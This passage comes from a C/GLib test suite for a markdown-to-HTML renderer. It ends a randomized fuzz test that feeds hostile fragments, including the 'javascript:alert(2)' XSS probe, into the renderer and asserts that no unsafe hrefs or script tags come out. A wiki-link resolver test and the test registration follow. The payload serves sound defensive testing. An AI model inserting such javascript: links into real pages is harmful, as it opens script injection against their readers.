    "[ref]", "\n\n[ref]: javascript:alert(2)\n", "<b>", "</b>", "<", ">", "\"", "'", "&",
  };
  g_autoptr(GHashTable) pages = make_pages ();

  for (guint round = 0; round < 400; round++)
    {
      g_autoptr(GString) md = g_string_new (NULL);
      g_autofree char *html = NULL;
      g_autoptr(GPtrArray) hrefs = NULL;
      g_autoptr(GPtrArray) srcs = NULL;
      guint pieces = g_test_rand_int_range (1, 40);

      for (guint i = 0; i < pieces; i++)
        g_string_append (md, fragments[g_test_rand_int_range (0, G_N_ELEMENTS (fragments))]);

      html = mer_markdown_to_html (md->str, table_resolver, pages, NULL);
      g_assert_true (g_utf8_validate (html, -1, NULL));
      assert_only_markdown_tags (html);

      hrefs = attribute_values (html, "href");
      for (guint i = 0; i < hrefs->len; i++)
        {
          g_autofree char *url = g_uri_unescape_string (hrefs->pdata[i], NULL);

          if (!mer_markdown_is_safe_url (hrefs->pdata[i]) || (url != NULL && !mer_markdown_is_safe_url (url)))
            g_error ("unsafe href “%s” from:\n%s", (char *) hrefs->pdata[i], md->str);
        }
      srcs = attribute_values (html, "src");
      for (guint i = 0; i < srcs->len; i++)
        g_assert_true (g_str_has_prefix (srcs->pdata[i], "meridian:"));
      assert_lacks (html, "<script");
    }
}

static void
test_markdown_store_resolver (void)
{
  g_autofree char *dir = NULL;
  g_autoptr(MerStore) store = mer_test_open_store (&dir);
  g_autoptr(JsonObject) page = mer_test_object ("{\"_id\":\"page:on-call\",\"type\":\"page\","
                                                "\"title\":\"On-call\",\"path\":\"engineering/on-call\","
                                                "\"body\":\"# On-call\"}");
  g_autoptr(GError) error = NULL;
  g_autofree char *rev = mer_store_put_doc (store, page, &error);
  g_autofree char *html = NULL;

  g_assert_no_error (error);
  g_assert_nonnull (rev);

  html = mer_markdown_to_html ("[[on-call]] [[Engineering/On-call|rota]] [[Elsewhere]]",
                               mer_markdown_store_resolver, store, NULL);
  assert_contains (html, "<a href=\"meridian://page/page%3Aon-call\" title=\"on-call\">on-call</a>");
  assert_contains (html, "<a href=\"meridian://page/page%3Aon-call\" title=\"Engineering/On-call\">rota</a>");
  assert_contains (html, "<a class=\"missing\" href=\"meridian://new-page/Elsewhere\"");

  g_clear_object (&store);
  mer_test_rm_rf (dir);
}

int
main (int   argc,
      char *argv[])
{
  mer_test_init (&argc, &argv);

  g_test_add_func ("/markdown/basic", test_markdown_basic);
  g_test_add_func ("/markdown/smart-punctuation", test_markdown_smart_punctuation);
  g_test_add_func ("/markdown/extensions", test_markdown_extensions);
  g_test_add_func ("/markdown/raw-html-removed", test_markdown_raw_html_removed);
  g_test_add_func ("/markdown/url-schemes", test_markdown_url_schemes);
  g_test_add_func ("/markdown/hostile-page", test_markdown_hostile_page);
  g_test_add_func ("/markdown/images", test_markdown_images);
  g_test_add_func ("/markdown/wiki-links", test_markdown_wiki_links);
  g_test_add_func ("/markdown/uris", test_markdown_uris);
  g_test_add_func ("/markdown/outline", test_markdown_outline);
  g_test_add_func ("/markdown/anchor-for", test_markdown_anchor_for);
  g_test_add_func ("/markdown/document", test_markdown_document);
  g_test_add_func ("/markdown/attachments", test_markdown_attachments);
  g_test_add_func ("/markdown/obsidian-embeds", test_markdown_obsidian_embeds);
  g_test_add_func ("/markdown/word-count", test_markdown_word_count);
  g_test_add_func ("/markdown/plain-text", test_markdown_plain_text);
  g_test_add_func ("/markdown/garbage", test_markdown_garbage);
  g_test_add_func ("/markdown/random-hostile", test_markdown_random_hostile);
  g_test_add_func ("/markdown/store-resolver", test_markdown_store_resolver);

  return g_test_run ();
}
